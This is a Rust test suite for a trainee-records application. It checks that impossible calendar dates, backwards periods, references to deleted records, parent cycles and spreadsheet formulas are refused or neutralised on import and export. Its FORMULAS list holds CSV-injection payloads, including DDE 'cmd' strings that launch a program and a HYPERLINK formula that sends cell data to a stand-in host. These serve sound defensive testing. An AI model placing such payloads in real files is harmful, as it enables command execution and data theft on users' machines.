//! Values that are clean text but cannot be: days of no calendar, periods that end before they begin, references to what is gone,
//! circles, formulas. Each by the field, by a file and in the store.

use std::collections::BTreeMap;
use std::path::Path;

use ustaz::error::Cause;
use ustaz::exchange::export::{Format, Options as ExportOptions, export_sensitive};
use ustaz::exchange::grid::{self, Limits};
use ustaz::exchange::import::{Options, apply, plan};
use ustaz::model::{Field, FieldKind, Id, Kind, Row, Value};
use ustaz::msg;
use ustaz::programme::entry::{Manner, read};
use ustaz::programme::show::Names;
use ustaz::rules::calendar::{Calendar, LunarShift};
use ustaz::store::{Direction, ListQuery, Mode, Store};
use ustaz::words::say;

use crate::desk::{Desk, Holding, Opening, template, today};
use crate::kit::{assert_whole, id, text};

/// Days that are none, in every way of writing them.
const NO_DAYS: [&str; 22] = [
    "32 Sunbula 1405",
    "31 Mizan 1405",
    "30 Hut 1405",
    "1405-12-30",
    "31.07.1405",
    "۳۰ حوت ۱۴۰۵",
    "2026-02-30",
    "30.02.2026",
    "29 Feb 2027",
    "31 April 2027",
    "2027-13-01",
    "2027-00-10",
    "2027-01-00",
    "0000-01-01",
    "1 Jan 0",
    "0",
    "20261-01-01",
    "1 Jan 20261",
    "99999999999999999999-01-01",
    "-2027-01-01",
    "31 Ramadan 1448",
    "1448-13-01",
];

/// Days at the edge, that are.
const DAYS: [(&str, &str); 6] = [
    ("31 Sunbula 1405", "2026-09-22"),
    ("30 Mizan 1405", "2026-10-22"),
    ("29 Hut 1405", "2027-03-20"),
    ("30 Hut 1403", "2025-03-20"),
    ("29 Feb 2028", "2028-02-29"),
    ("31.12.2200", "2200-12-31"),
];

fn file(holding: Holding) -> (Store, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("a.db");
    std::fs::write(&path, template(holding)).unwrap();
    (Store::open(&path, Mode::Existing).unwrap(), dir)
}

fn manner(calendar: Calendar) -> Manner {
    Manner { today: today(), calendar, second: None, shift: LunarShift::default(), country: "KZ".into() }
}

fn all_fields() -> impl Iterator<Item = (Kind, &'static Field)> {
    Kind::ALL.iter().flat_map(|kind| kind.fields().iter().map(|f| (*kind, f)))
}

/// Reads a text of CSV as records of a kind.
fn planned(store: &Store, dir: &Path, kind: Kind, csv: &str) -> ustaz::exchange::import::Plan {
    let path = dir.join("records.csv");
    std::fs::write(&path, csv).unwrap();
    let book = grid::open(&path, &Limits::default()).unwrap_or_else(|m| panic!("{}", say(&m)));
    plan(store, &book, "records.csv", kind, Options::new(today())).unwrap_or_else(|e| panic!("{e}"))
}

#[test]
fn days_that_are_none_are_refused_in_every_field() {
    let (store, _dir) = file(Holding::Few);
    let names = Names::new();
    for calendar in [Calendar::Gregorian, Calendar::Solar, Calendar::Lunar] {
        for (kind, field) in all_fields() {
            let timed = matches!(field.kind, FieldKind::Moment);
            if !timed && !matches!(field.kind, FieldKind::Date | FieldKind::PartialDate) {
                continue;
            }
            for typed in NO_DAYS {
                let typed = if timed { format!("{typed} 10:00") } else { typed.to_owned() };
                let refused = read(&store, &names, &manner(calendar), field, &typed);
                let refused = refused.expect_err(&format!("{} {} {typed} {calendar:?}", kind.table(), field.key));
                assert!(!say(&refused).is_empty());
            }
            for (typed, day) in DAYS {
                let typed = if timed { format!("{typed} 10:00") } else { typed.to_owned() };
                let read = read(&store, &names, &manner(calendar), field, &typed);
                let read = read.unwrap_or_else(|e| panic!("{} {} {typed}: {}", kind.table(), field.key, say(&e)));
                assert!(read.as_str().starts_with(day), "{typed}: {read:?}");
            }
        }
    }
}

#[test]
fn days_that_are_none_are_listed_with_their_row_and_left_out() {
    let (mut store, dir) = file(Holding::Catalogues);
    for typed in NO_DAYS {
        let csv = format!(
            "passport_name,born,passport_number,passport_expires,status_on\nGul {typed},{typed},P1,{typed},{typed}\nShirin,1990,,,\n"
        );
        let plan = planned(&store, dir.path(), Kind::Trainee, &csv);
        let told: Vec<(usize, &str)> = plan.problems.iter().map(|p| (p.row, &*p.column)).collect();
        for column in ["born", "passport_expires", "status_on"] {
            assert!(told.contains(&(2, column)), "{typed}: {column} is not among {told:?}");
        }
        apply(&mut store, "zahra", &plan).unwrap();
    }
    let found = store.page(&ListQuery::all(Kind::Trainee), None, Direction::Forward, 500).unwrap();
    for (row, _) in found {
        assert!(row.text("passport_name") == "Shirin" || (row.get("born").is_null() && row.get("status_on").is_null()), "{row:?}");
    }
    assert_whole(&store);
}

#[test]
fn days_that_are_none_are_refused_in_a_form_and_found_by_no_filter() {
    let mut desk = Opening { holding: Holding::Few, ..Opening::default() }.open();
    for typed in NO_DAYS {
        desk.keys("2 n").type_text("Shirin Gul").fill("Status since", typed).press("ctrl-s").says("Not saved").keys("ctrl-x y");
        desk.press("/").press("ctrl-u").type_text(&format!("status_on:\"{typed}\"")).press("enter").keys("esc");
    }
    assert!(desk.records(Kind::Trainee, "Shirin Gul").is_empty());
    desk.whole();
}

/// Pairs of fields that are the two ends of something.
const ENDS: [(&str, &str); 7] = [
    ("starts_on", "ends_on"),
    ("signed_on", "ends_on"),
    ("arrives_on", "leaves_on"),
    ("issued_on", "expires_on"),
    ("decided_on", "expires_on"),
    ("starts_at", "ends_at"),
    ("earliest_on", "latest_on"),
];

/// A record of a kind with all it must have.
fn least(store: &mut Store, kind: Kind, n: i64) -> Row {
    let mut row = Row::new(kind, id(n));
    for field in kind.fields().iter().filter(|f| f.required) {
        let value = match field.kind {
            FieldKind::Ref(other) => {
                let next = 10_000 + n * 10;
                let above = least(store, other, next);
                store.write("zahra", &msg!("journal-stress", n = 1), |tx| tx.insert(&above)).unwrap();
                Value::Int(next)
            }
            FieldKind::Choice(set) => Value::text(set.keys[0]),
            FieldKind::Date => Value::text("2027-01-01"),
            FieldKind::Moment => Value::text("2027-01-01T10:00+05:00"),
            FieldKind::Number { min, decimals: 0, .. } => Value::Int(min as i64),
            FieldKind::Number { min, .. } => Value::Real(min),
            FieldKind::Flag => Value::Int(1),
            FieldKind::Term(list) => {
                let code = format!("code{n}");
                let term = Row::new(Kind::Term, id(20_000 + n)).with("list", Value::text(list.key())).with("code", text(&code));
                let term = term.with("name", text(&code));
                store.write("zahra", &msg!("journal-stress", n = 1), |tx| tx.insert(&term)).unwrap();
                Value::text(code)
            }
            _ => Value::text(format!("{} {n}", field.key)),
        };
        row.set(field.key, value);
    }
    match kind {
        Kind::WorkingTime => {
            row.set("monday", Value::text("off"));
        }
        Kind::Entrustment => {
            // Two assessors saw it.
            let mut codes = Vec::new();
            for seen in 1..=2 {
                let next = 10_000 + n * 10 + 4 + seen;
                let mut above = least(store, Kind::Trainer, next + 2);
                store.write("zahra", &msg!("journal-stress", n = 1), |tx| tx.insert(&above)).unwrap();
                let assessor = above.id;
                above = least(store, Kind::Assessment, 40_000 + n * 10 + seen);
                above.set("assessor", Value::Int(assessor.get()));
                for key in ["trainee", "skill"] {
                    above.set(key, row.get(key).clone());
                }
                store.write("zahra", &msg!("journal-stress", n = 1), |tx| tx.insert(&above)).unwrap();
                codes.push(above.id.code());
            }
            row.set("evidence", Value::text(codes.join("; ")));
            row.set("frozen", Value::text(codes.join("; ")));
        }
        Kind::Curriculum => {
            let next = 10_000 + n * 10 + 1;
            let above = least(store, Kind::Cohort, next);
            store.write("zahra", &msg!("journal-stress", n = 1), |tx| tx.insert(&above)).unwrap();
            row.set("cohort", Value::Int(next));
        }
        Kind::Rotation => {
            let next = 10_000 + n * 10;
            let above = least(store, Kind::Trainee, next);
            store.write("zahra", &msg!("journal-stress", n = 1), |tx| tx.insert(&above)).unwrap();
            row.set("trainee", Value::Int(next));
        }
        _ => {}
    }
    row
}

#[test]
fn a_period_that_ends_before_it_begins_is_refused_in_every_kind() {
    let dir = tempfile::tempdir().unwrap();
    let mut store = Store::open(&dir.path().join("a.db"), Mode::Write).unwrap();
    let label = msg!("journal-stress", n = 1);
    let mut tried = BTreeMap::new();
    for (n, kind) in (1..).zip(Kind::ALL) {
        for (begins, ends) in ENDS {
            let (Some(first), Some(last)) = (kind.field(begins), kind.field(ends)) else { continue };
            tried.entry(last.key).or_insert_with(Vec::new).push(kind.table());
            let day = |day: &str| Value::text(if last.kind == FieldKind::Moment { format!("{day}T10:00+05:00") } else { day.to_owned() });
            let pair = ENDS.iter().position(|p| *p == (begins, ends)).unwrap();
            let mut row = least(&mut store, *kind, n * 100 + i64::try_from(pair).unwrap());
            // Another end must not be the reason.
            for (a, b) in ENDS {
                for key in [a, b] {
                    if kind.field(key).is_some_and(|f| !f.required) {
                        row.set(kind.field(key).unwrap().key, Value::Null);
                    }
                }
            }
            row.set(first.key, day("2027-02-01"));
            row.set(last.key, day("2027-01-31"));
            let refused = store.write("zahra", &label, |tx| tx.insert(&row)).unwrap_err();
            assert_eq!((refused.cause(), refused.field()), (Cause::Input, Some(last.key)), "{}: {refused}", kind.table());
            // As a change of one of the two, and as a file.
            row.set(last.key, day("2027-02-02"));
            store.write("zahra", &label, |tx| tx.insert(&row)).unwrap_or_else(|e| panic!("{}: {e}", kind.table()));
            for (key, value) in [(last.key, day("2027-01-31")), (first.key, day("2027-02-03"))] {
                let refused = store.write("zahra", &label, |tx| tx.set(*kind, row.id, &[(key, value)])).unwrap_err();
                assert_eq!(refused.cause(), Cause::Input, "{}", kind.table());
            }
            let csv = format!("id,{begins},{ends}\n#{},{},{}\n", row.id.code(), day("2027-02-01").as_str(), day("2027-01-31").as_str());
            let told = crate::files::says;
            let path = dir.path().join("period.csv");
            std::fs::write(&path, csv).unwrap();
            let (_, said) =
                told(&dir.path().join("a.db"), &["import".as_ref(), kind.table().as_ref(), path.as_os_str(), "--apply".as_ref()]);
            let held = store.get(*kind, row.id).unwrap().unwrap();
            assert_eq!(held.get(last.key), &day("2027-02-02"), "{}: {said}", kind.table());
        }
        for field in kind.fields() {
            let end = ["ends_on", "ends_at", "leaves_on", "expires_on"].contains(&field.key);
            assert!(!end || ENDS.iter().any(|(a, b)| *b == field.key && kind.field(a).is_some()), "{} {}", kind.table(), field.key);
        }
    }
    println!("{tried:?}");
    assert_eq!(tried.values().map(Vec::len).sum::<usize>(), 11, "{tried:?}");
    assert_whole(&store);
}

#[test]
fn a_period_backwards_is_refused_in_a_form() {
    let mut desk = Opening { holding: Holding::Few, ..Opening::default() }.open();
    let placements = || ListQuery::all(Kind::Placement);
    let before = desk.store.count(&placements(), 1_000).unwrap();
    let (department, _) = desk.store.page(&ListQuery::all(Kind::Department), None, Direction::Forward, 1).unwrap().remove(0);
    // A placement's form, as it is opened from a person who may be placed.
    desk.press("2").find_row("zia rahimi").press("p").sees("New placement").fill("Department", department.text("name"));
    desk.fill("Starts", "2027-02-01").fill("Ends", "2027-01-01").press("ctrl-s").says("Not saved: look at ends");
    assert!(desk.foot().contains("It ends on 2027-01-01, before it begins on 2027-02-01"), "{}", desk.screen());
    assert_eq!(desk.store.count(&placements(), 1_000).unwrap(), before);
    // It was for nothing else.
    desk.fill("Ends", "2027-03-01").press("ctrl-s").says("Saved placement");
    assert_eq!(desk.store.count(&placements(), 1_000).unwrap(), before + 1);
    desk.whole();
}

#[test]
fn what_is_gone_is_referred_to_by_nothing_new() {
    let (mut store, dir) = file(Holding::Few);
    let label = msg!("journal-stress", n = 1);
    let hospital = Row::new(Kind::Hospital, id(7)).with("name", text("Gone Hospital"));
    store.write("zahra", &label, |tx| tx.insert(&hospital)).unwrap();
    store.write("zahra", &label, |tx| tx.remove(Kind::Hospital, id(7))).unwrap();
    let code = id(7).code();
    for target in [id(7), id(999_999)] {
        let row = Row::new(Kind::Trainee, id(8)).with("passport_name", text("Gul")).with("home_hospital", Value::Int(target.get()));
        assert_eq!(store.write("zahra", &label, |tx| tx.insert(&row)).unwrap_err().cause(), Cause::Input);
    }
    for (n, word) in [format!("#{code}"), format!("Gone Hospital #{code}"), format!("#{}", id(999_999).code())].iter().enumerate() {
        let plan = planned(&store, dir.path(), Kind::Trainee, &format!("passport_name,home_hospital\nShirin {n},{word}\n"));
        let told = plan.problems.iter().any(|p| p.row == 2 && &*p.column == "home_hospital");
        // By its name another one is made, which is told too.
        assert!(told || plan.made.iter().any(|r| r.text("name") == "Gone Hospital"), "{word}: {:?}", plan.problems);
        apply(&mut store, "zahra", &plan).unwrap();
        let found = store.matching(Kind::Trainee, &format!("Shirin {n}"), 2).unwrap();
        assert!(found.iter().all(|r| r.reference("home_hospital") != Some(id(7))), "{word}");
    }
    // A row that says it is the one that is gone.
    store.write("zahra", &label, |tx| tx.insert(&Row::new(Kind::Trainee, id(9)).with("passport_name", text("Gone Person")))).unwrap();
    store.write("zahra", &label, |tx| tx.remove(Kind::Trainee, id(9))).unwrap();
    let again = planned(&store, dir.path(), Kind::Trainee, &format!("id,passport_name\n{},Gone Person\n", id(9).code()));
    match apply(&mut store, "zahra", &again) {
        Ok(_) => assert!(again.problems.iter().any(|p| p.row == 2) || again.counts.new == 1, "{:?}", again.problems),
        Err(e) => assert!(e.cause() == Cause::Input && e.to_string().contains("!2"), "{e}"),
    }
    let names = Names::new();
    let field = Kind::Trainee.field("home_hospital").unwrap();
    let read = read(&store, &names, &manner(Calendar::Gregorian), field, &format!("#{code}"));
    assert!(read.is_err(), "{read:?}");
    assert_whole(&store);
}

#[test]
fn what_goes_while_a_form_names_it_is_told_at_the_field() {
    let mut desk = Opening { holding: Holding::Few, ..Opening::default() }.open();
    let label = msg!("journal-stress", n = 1);
    let hospital = Row::new(Kind::Hospital, id(7)).with("name", text("Passing Hospital"));
    desk.store.write("karim", &label, |tx| tx.insert(&hospital)).unwrap();
    desk.pass(2).keys("2 n").type_text("Shirin Gul").fill("Home hospital", "Passing");
    desk.store.write("karim", &label, |tx| tx.remove(Kind::Hospital, id(7))).unwrap();
    desk.press("ctrl-s").says("Not saved");
    assert!(desk.records(Kind::Trainee, "Shirin Gul").is_empty());
    desk.press("ctrl-s").says("Not saved");
    desk.whole();
}

#[test]
fn a_tree_stays_a_tree() {
    let (mut store, dir) = file(Holding::Few);
    let label = msg!("journal-stress", n = 1);
    let skill = |n: i64, parent: Option<i64>| {
        let mut row = least(&mut Store::open(&dir.path().join("scratch.db"), Mode::Write).unwrap(), Kind::Skill, n);
        row.set("parent", parent.map_or(Value::Null, Value::Int));
        row
    };
    let plain = |row: Row| {
        let refs: Vec<&str> =
            row.kind.fields().iter().filter(|f| matches!(f.kind, FieldKind::Ref(k) if k != Kind::Skill)).map(|f| f.key).collect();
        (row, refs)
    };
    let (first, refs) = plain(skill(1, None));
    // What a skill must belong to.
    for key in refs {
        if let (Some(FieldKind::Ref(kind)), Value::Int(n)) = (Kind::Skill.field(key).map(|f| f.kind), first.get(key).clone()) {
            let above = least(&mut store, kind, n);
            store.write("zahra", &label, |tx| tx.insert(&above)).unwrap();
        }
    }
    let at = |n: i64, parent: Option<i64>| {
        Row { id: id(n), ..first.clone() }.with("code", text(&format!("s{n}"))).with("parent", parent.map_or(Value::Null, Value::Int))
    };
    assert_eq!(store.write("zahra", &label, |tx| tx.insert(&at(1, Some(1)))).unwrap_err().cause(), Cause::Input, "its own parent");
    store
        .write("zahra", &label, |tx| {
            tx.insert(&at(1, None))?;
            tx.insert(&at(2, Some(1)))?;
            tx.insert(&at(3, Some(2)))
        })
        .unwrap();
    for parent in [1, 2, 3] {
        let refused = store.write("zahra", &label, |tx| tx.set(Kind::Skill, id(1), &[("parent", Value::Int(parent))])).unwrap_err();
        assert_eq!((refused.cause(), refused.field()), (Cause::Input, Some("parent")), "{parent}");
    }
    // By a file: the row is named, and nothing is written.
    let framework = store.get(Kind::Framework, first.reference("framework").unwrap()).unwrap().unwrap().id.code();
    let (one, three) = (id(1).code(), id(3).code());
    let csv = format!("id,framework,code,title,parent\n{one},#{framework},s1,{},#{three}\n", first.text("title"));
    let before = store.newest().unwrap();
    let plan = planned(&store, dir.path(), Kind::Skill, &csv);
    let refused = apply(&mut store, "zahra", &plan).map(|w| w.seq);
    assert!(refused.is_err() || !plan.problems.is_empty(), "{refused:?}");
    if let Err(e) = refused {
        assert!(e.cause() == Cause::Input && e.to_string().contains("!2"), "{e}");
    }
    assert_eq!(store.newest().unwrap(), before);
    assert_whole(&store);
}

/// Catalogues are trees by their codes.
#[test]
fn a_catalogue_stays_a_tree() {
    let (mut store, _dir) = file(Holding::Few);
    let label = msg!("journal-stress", n = 1);
    let term = |n: i64, list: &str, code: &str, parent: &str| {
        let row = Row::new(Kind::Term, id(9_000 + n)).with("list", text(list)).with("code", text(code)).with("name", text("Named"));
        row.with("parent", if parent.is_empty() { Value::Null } else { text(parent) })
    };
    let mut circle = |row: Row| {
        let refused = store.write("zahra", &label, |tx| tx.insert(&row)).unwrap_err();
        assert_eq!((refused.what().id, refused.field()), ("reference-circle", Some("parent")), "{row:?}");
    };
    circle(term(1, "specialty", "hand", "hand"));
    circle(term(1, "specialty", "hand", "HAND"));
    circle(term(1, "district", "XD", "XD"));
    store
        .write("zahra", &label, |tx| {
            tx.insert(&term(1, "specialty", "hand", ""))?;
            tx.insert(&term(2, "specialty", "wrist", "hand"))?;
            tx.insert(&term(3, "specialty", "carpus", "wrist"))?;
            // A district may have the code of the province that it is in: that is another catalogue.
            tx.insert(&term(4, "province", "XP", ""))?;
            tx.insert(&term(5, "district", "XP", "XP"))
        })
        .unwrap();
    for (n, key, value) in [
        (1, "parent", "hand"),
        (1, "parent", "wrist"),
        (1, "parent", "carpus"),
        (1, "code", "carpus"),
        (2, "code", "hand"),
        (4, "parent", "XP"),
    ] {
        let set = |store: &mut Store| store.write("zahra", &label, |tx| tx.set(Kind::Term, id(9_000 + n), &[(key, text(value))]));
        match (n, key) {
            // Nothing stands above it but what stood there.
            (1, "code") => drop(set(&mut store).unwrap()),
            _ => {
                let refused = set(&mut store).unwrap_err();
                assert_eq!((refused.what().id, refused.field()), ("reference-circle", Some("parent")), "{n} {value}");
            }
        }
    }
    assert_whole(&store);
}

/// Texts that a spreadsheet would run, however it cuts a file.
const FORMULAS: [&str; 12] = [
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://x/?\"&A1,\"click\")",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "'=1+1",
    "''=1+1",
    "Kabul;=1+1",
    "Kabul; =1+1; @x",
    "a,=1+1",
    "\"=1+1\"",
    "＝1+1",
];

#[test]
fn no_formula_comes_out_of_any_export_and_every_one_comes_back() {
    let (mut store, dir) = file(Holding::Catalogues);
    let rows: Vec<Row> = (1..)
        .zip(FORMULAS)
        .map(|(n, formula)| {
            let notes = format!("first\n{formula}\n{formula}");
            let row = Row::new(Kind::Trainee, id(n)).with("passport_name", text(formula)).with("father_name", text(formula));
            row.with("licence_number", text(formula.chars().take(20).collect::<String>().trim())).with("notes", text(&notes))
        })
        .collect();
    store.write("zahra", &msg!("journal-stress", n = 1), |tx| rows.iter().try_for_each(|row| tx.insert(row))).unwrap();
    for hxl in [false, true] {
        for format in Format::ALL {
            if hxl && format == Format::Json {
                continue;
            }
            let mut out = Vec::new();
            let options = ExportOptions { hxl, ..ExportOptions::new(Kind::Trainee, format) };
            export_sensitive(&mut store, "zahra", &options, &mut out).unwrap();
            match format {
                Format::Csv => no_cell_is_run(&out),
                Format::Json => drop(serde_json::from_slice::<serde_json::Value>(&out).unwrap()),
                Format::Xlsx => no_formula_in(&out),
            }
            if format != Format::Json {
                comes_back(&rows, &out, format, dir.path());
            }
        }
    }
}

/// However a spreadsheet cuts the file, no cell begins as a formula with more than digits in it.
fn no_cell_is_run(csv: &[u8]) {
    let csv = std::str::from_utf8(csv).unwrap().trim_start_matches('\u{feff}');
    for separator in [b',', b';', b'\t', b'|'] {
        for quoting in [true, false] {
            let mut reader = csv::ReaderBuilder::new().delimiter(separator).quoting(quoting).flexible(true).from_reader(csv.as_bytes());
            for record in reader.records() {
                for cell in &record.unwrap() {
                    let bare = cell.trim_start_matches(' ');
                    let number = bare.trim_start_matches(['+', '-']).chars().all(|c| "0123456789.".contains(c)) && bare.len() > 1;
                    let cut_by_pipe = separator == b'|';
                    // Without quotes a comma within a text cuts it; no spreadsheet reads so.
                    let unquoted = !quoting && separator == b',';
                    assert!(
                        !bare.starts_with(['=', '+', '-', '@']) || number || cut_by_pipe || unquoted,
                        "{separator} {quoting}: {cell:?}"
                    );
                }
            }
        }
    }
}

fn no_formula_in(xlsx: &[u8]) {
    let mut book = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).unwrap();
    for n in 0..book.len() {
        let mut part = String::new();
        let mut file = book.by_index(n).unwrap();
        std::io::Read::read_to_string(&mut file, &mut part).unwrap();
        assert!(!part.contains("<f>") && !part.contains("<f ") && !part.contains("<hyperlink") && !part.contains("<ddeLink"), "{part}");
    }
}

/// Into an empty file, the same names.
fn comes_back(rows: &[Row], bytes: &[u8], format: Format, dir: &Path) {
    let path = dir.join(format!("back.{}", format.key()));
    std::fs::write(&path, bytes).unwrap();
    let (mut other, _folder) = file(Holding::Catalogues);
    let book = grid::open(&path, &Limits::default()).unwrap();
    let plan = plan(&other, &book, "back", Kind::Trainee, Options::new(today())).unwrap();
    apply(&mut other, "zahra", &plan).unwrap();
    for row in rows {
        let back = other.get(Kind::Trainee, row.id).unwrap();
        let Some(back) = back else {
            let listed: Vec<String> = plan.problems.iter().map(|p| format!("{} {} {:?}", p.row, p.column, p.value)).collect();
            panic!("{:?} did not come back by {}: {listed:?}", row.text("passport_name"), format.key());
        };
        for key in ["passport_name", "father_name", "notes", "licence_number"] {
            assert_eq!(back.text(key), row.text(key), "{key} by {}", format.key());
        }
    }
    assert_whole(&other);
}

#[test]
fn ids_are_never_too_large() {
    let (store, _dir) = file(Holding::Few);
    for word in ["9223372036854775808", "-1", "0", "18446744073709551616", "zzzzzzzzzzzzzzzzzzzz", "#", ""] {
        store.by_code(Kind::Trainee, word).unwrap_or_else(|e| panic!("{word}: {e}"));
        assert!(Id::of_code(word).is_none_or(|id| id.get() > 0), "{word}");
    }
    let mut desk = Desk::open_trainees();
    desk.press("/").type_text("#zzzzzzzzzzzzz").press("enter").keys("esc");
    desk.press("f").type_text("#9223372036854775808").press("enter").keys("esc").whole();
}
